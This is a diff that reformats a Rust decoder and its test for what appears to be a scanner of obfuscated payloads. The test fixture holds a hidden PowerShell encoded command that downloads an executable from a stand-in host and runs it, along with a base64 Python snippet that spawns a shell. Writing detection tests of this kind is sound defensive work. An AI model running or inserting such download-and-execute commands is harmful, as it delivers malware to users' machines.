@@ -307,7 +307,12 @@ fn utf16le_text(bytes: &[u8]) -> Option<String> {
     }
     let units: Vec<u16> = bytes
         .chunks_exact(2)
-        .map(|c| u16::from_le_bytes([c.first().copied().unwrap_or(0), c.get(1).copied().unwrap_or(0)]))
+        .map(|c| {
+            u16::from_le_bytes([
+                c.first().copied().unwrap_or(0),
+                c.get(1).copied().unwrap_or(0),
+            ])
+        })
         .collect();
     Some(String::from_utf16_lossy(&units))
 }
@@ -415,15 +420,19 @@ mod tests {
     #[test]
     fn decodes_powershell_encoded_command_as_utf16le() {
         // UTF-16LE of "Invoke-WebRequest -Uri http://x.example/a.exe -OutFile a.exe; Start-Process a.exe"
-        let payload = "Invoke-WebRequest -Uri http://x.example/a.exe -OutFile a.exe; Start-Process a.exe";
+        let payload =
+            "Invoke-WebRequest -Uri http://x.example/a.exe -OutFile a.exe; Start-Process a.exe";
         let units: Vec<u8> = payload.encode_utf16().flat_map(u16::to_le_bytes).collect();
         let b64 = base64::engine::general_purpose::STANDARD.encode(units);
-        let v = lex_python(&format!("subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {b64}')\n"));
+        let v = lex_python(&format!(
+            "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {b64}')\n"
+        ));
         let d = candidates(&v, &mut Budget::default());
         assert_eq!(d.len(), 1, "{d:?}");
         assert_eq!(d[0].text, payload);
         // Plain UTF-8 base64 still decodes as UTF-8.
-        let v = lex_python("a = 'aW1wb3J0IG9zLCBzdWJwcm9jZXNzCnN1YnByb2Nlc3MuUG9wZW4oWyJzaCJdKQo='\n");
+        let v =
+            lex_python("a = 'aW1wb3J0IG9zLCBzdWJwcm9jZXNzCnN1YnByb2Nlc3MuUG9wZW4oWyJzaCJdKQo='\n");
         let d = candidates(&v, &mut Budget::default());
         assert!(d[0].text.starts_with("import os"));
     }
